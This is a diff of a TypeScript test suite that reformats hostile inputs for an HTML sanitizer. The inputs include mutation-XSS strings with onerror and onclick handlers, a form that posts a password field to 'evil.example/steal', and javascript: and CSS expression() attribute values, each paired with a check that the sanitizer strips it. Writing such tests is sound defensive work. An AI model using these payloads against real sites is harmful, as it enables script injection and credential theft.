@@ -100,7 +100,8 @@ const cases: HostileCase[] = [
   },
   {
     name: 'math mXSS (textarea in svg in mtext)',
-    input: '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>"></textarea></mtext></svg></mglyph></mi></math>',
+    input:
+      '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>"></textarea></mtext></svg></mglyph></mi></math>',
     check: noImages
   },
   {
@@ -136,7 +137,8 @@ const cases: HostileCase[] = [
   },
   {
     name: 'form with action / formaction / inputs',
-    input: '<form action="https://evil.example/steal" method=post><input name=password type=password><button formaction="javascript:alert(1)">Go</button></form>',
+    input:
+      '<form action="https://evil.example/steal" method=post><input name=password type=password><button formaction="javascript:alert(1)">Go</button></form>',
     check: (html) => {
       expect(html).not.toMatch(/action|password|input/);
     }
@@ -208,14 +210,16 @@ const cases: HostileCase[] = [
   },
   {
     name: 'class other than language-* is removed; no class outside <code>',
-    input: '<p class="admin-badge">x</p><code class="language-js evil">y</code><code class="hidden">z</code>\n\n```js" onclick="alert(1)\nq\n```',
+    input:
+      '<p class="admin-badge">x</p><code class="language-js evil">y</code><code class="hidden">z</code>\n\n```js" onclick="alert(1)\nq\n```',
     check: (html) => {
       expect(html).not.toMatch(/admin-badge|hidden|evil|onclick/);
     }
   },
   {
     name: 'invalid ol start / img size / align values are dropped',
-    input: '<ol start="1;background:red"><li>a</li></ol><img src="https://x.example/a.png" width="100%;x" height="expression(alert(1))"><table><tr><td align="javascript:x">c</td></tr></table>',
+    input:
+      '<ol start="1;background:red"><li>a</li></ol><img src="https://x.example/a.png" width="100%;x" height="expression(alert(1))"><table><tr><td align="javascript:x">c</td></tr></table>',
     check: (html) => expect(html).not.toMatch(/start=|width=|height=|align=/)
   },
   {
